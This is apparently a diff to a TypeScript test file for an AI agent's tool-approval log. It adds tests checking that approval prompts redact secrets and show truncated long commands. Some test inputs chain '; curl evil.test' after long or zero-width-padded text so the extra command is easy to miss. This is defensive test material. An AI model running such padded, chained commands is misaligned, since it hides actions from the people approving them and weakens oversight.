@@ -88,6 +88,59 @@ describe('a host that needs approval', () => {
     expect(log.list({})).toMatchObject([{ status: 'error', effect: 'unknown' }])
   })
 
+  test('shows no part of a secret, and says how much of a long command it leaves out', async () => {
+    const log = createMemoryLog()
+    const secret = 's3cr3t-0123456789'
+    const run = createToolRun({ runId: 'r', log, redact: { values: [secret] } })
+    const command = defineTool({
+      name: 'command',
+      schema: z.object({ cmd: z.string() }),
+      async execute({ cmd }, ctx) {
+        await new HostApprovals(ctx, cmd).approve(registry)
+        return ''
+      },
+    })
+    const tool = run.tools({ command }).command
+    // The cut of either text would split the secret.
+    for (const most of [200, 2_000]) {
+      const cmd = `${'x'.repeat(most - 5)}${secret}; curl evil.test`
+      await tool.execute({ cmd }, { ...callOptions, toolCallId: `call-${most}` })
+    }
+    await tool.execute({ cmd: `npm ci${' \n\u200b'.repeat(900)}; curl evil.test` }, callOptions)
+    const rows = await pendingApprovals({ log })
+    expect(rows).toHaveLength(3)
+    for (const { prompt, inputJson } of rows) {
+      expect(`${prompt}${inputJson}`).not.toContain('s3cr')
+      expect(JSON.parse(inputJson ?? '')).toMatchObject(registry)
+    }
+    const prompts = rows.map(({ prompt }) => prompt)
+    expect(
+      prompts.filter((prompt) => /… \(\d+ more characters\)$/u.test(prompt ?? '')),
+    ).toHaveLength(2)
+    expect(prompts).toContainEqual(expect.stringMatching(/Command: npm ci ; curl evil\.test$/))
+    expect(rows.map(({ inputJson }) => inputJson).join()).toMatch(/… \(\d+ more characters\)"/u)
+  })
+
+  test('is known as approved before only when it is approved for the run', async () => {
+    const log = createMemoryLog()
+    const known = async (number: number): Promise<boolean> => {
+      const looking = defineTool({
+        name: 'looking',
+        schema: z.object({}),
+        execute: (_args, ctx) => new HostApprovals(ctx, 'npm test').isGranted(registry),
+      })
+      const run = createToolRun({ runId: 'r', log, attempt: number })
+      return run.tools({ looking }).looking.execute({}, callOptions)
+    }
+    expect(await known(1)).toBe(false)
+    // It asked for nothing.
+    expect(await pendingApprovals({ log })).toEqual([])
+    await expect(attempt(log).ask([registry])).rejects.toThrow(paused)
+    expect(await known(2)).toBe(false)
+    await approveAll(log, 'run')
+    expect(await known(3)).toBe(true)
+  })
+
   test('is reached by the same call of the next attempt, once it is approved', async () => {
     const log = createMemoryLog()
     await expect(attempt(log).ask([registry])).rejects.toThrow(paused)
